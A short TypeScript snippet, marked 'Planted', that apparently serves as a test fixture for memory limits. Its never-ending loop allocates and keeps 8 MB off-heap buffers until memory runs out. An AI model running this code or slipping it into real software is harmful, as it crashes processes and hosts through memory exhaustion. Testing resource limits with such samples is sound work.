/** Planted: takes memory outside of JavaScript's heap, as a decoder does, and keeps it. */
const taken: Buffer[] = [];
while (taken.length >= 0) taken.push(Buffer.alloc(8 * 1024 * 1024, 1));
